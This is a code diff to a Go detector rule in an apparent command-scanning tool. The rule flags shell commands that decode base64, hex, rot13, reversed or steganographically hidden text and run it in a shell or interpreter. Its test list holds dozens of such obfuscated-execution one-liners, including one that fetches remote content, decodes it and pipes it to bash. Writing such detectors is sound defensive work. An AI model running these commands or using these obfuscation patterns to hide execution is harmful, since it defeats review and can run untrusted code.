@@ -17,10 +17,10 @@ var runDecode = Detector{
 	Why:    "encoded text was decoded and handed to a shell or interpreter",
 	Detect: onCommands(decodeRun),
 	Fire: lines(coi.High,
-		"echo aWQK | base64 -d | bash", "bash -c \"$(echo aWQK | base64 --decode)\"", "eval $(printf 6964 | xxd -r -p)", "base64 -d payload.b64 | sh", "sh <<< $(base64 -d <<< aWQK)",
+		"echo aWQK | base64 -d | bash", "echo aWQ= | base64 -d | xargs -I{} sh -c {}", "python3 -m base64 -d <<< aWQ= | sh", "bash -c \"$(echo aWQK | base64 --decode)\"", "eval $(printf 6964 | xxd -r -p)", "base64 -d payload.b64 | sh", "sh <<< $(base64 -d <<< aWQK)",
 		"bash <(echo aWQK | base64 -d)", "echo aWQK > /tmp/a; base64 -d /tmp/a > /tmp/b; sh /tmp/b", "python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"",
 		"php -r 'eval(base64_decode(\"c3lzdGVtKCdpZCcpOw==\"));'", "perl -MMIME::Base64 -e 'eval(decode_base64($ARGV[0]))' x", "node -e 'eval(Buffer.from(\"MSsx\",\"base64\").toString())'",
-		"openssl enc -base64 -d -in x | bash", "echo 'di' | rev | sh", "strings img.png | tail -n 1 | base64 -d | sh", "echo vq | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash", "printf '\\151\\144' | base64 -d | sudo bash",
+		"openssl enc -base64 -d -in x | bash", "echo 'di' | rev | sh", "strings img.png | tail -n 1 | base64 -d | sh", "steghide extract -sf a.jpg -p x -xf - | sh", "echo vq | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash", "printf '\\151\\144' | base64 -d | sudo bash",
 		"cp /usr/bin/base64 /tmp/z; echo aWQK | /tmp/z -d | sh", "echo aWQK | openssl base64 -d | python3",
 		"x=$(echo aWQK | base64 -d); $x", "curl -s https://example.com/p | base64 -d | bash",
 	),
@@ -42,6 +42,17 @@ func decoderStage(s *command.Simple) bool {
 		return p.Has("r")
 	case "openssl":
 		return p.Has("d") && len(s.Argv) > 1 && oneOf(s.Argv[1], "enc", "base64", "aes-256-cbc", "des3")
+	case "python":
+		for i, a := range s.Argv {
+			if a == "-m" && i+1 < len(s.Argv) {
+				return oneOf(s.Argv[i+1], "base64", "uu", "quopri", "binascii", "gzip", "zlib") && s.Arg("-d", "-u", "-D", "--decompress")
+			}
+		}
+		return printsDecoded(s)
+	case "perl", "ruby", "node", "php":
+		return printsDecoded(s)
+	case "steghide", "stegseek", "outguess", "zsteg":
+		return s.Arg("extract", "-r", "-E", "--crack", "-xf") || s.Name == "zsteg"
 	case "rev", "uudecode":
 		return true
 	case "tr":
@@ -52,9 +63,19 @@ func decoderStage(s *command.Simple) bool {
 	return false
 }
 
+// printsDecoded reports code that decodes and prints.
+func printsDecoded(s *command.Simple) bool {
+	for _, c := range s.Code {
+		if t := strings.ToLower(c.Text); !scripted(s) && hasAny(t, decodes...) && hasAny(t, "print", "puts", "echo", "console.log", "stdout") {
+			return true
+		}
+	}
+	return false
+}
+
 func decodeRun(s *command.Simple, v track.View) *Finding {
 	takes := s.Class() == program.Shell || s.Class() == program.Interpreter || oneOf(s.Name, "eval", ".", "source")
-	if takes && s.Decoded && (s.Parent == nil || !s.Parent.Decoded) && notFilter(s) {
+	if takes && s.Decoded && (s.Parent == nil || !s.Parent.Decoded || s.Parent.Is("xargs", "parallel")) && notFilter(s) {
 		return say(s, coi.High, "decoded text run by "+s.Name)
 	}
 	if takes && notFilter(s) {
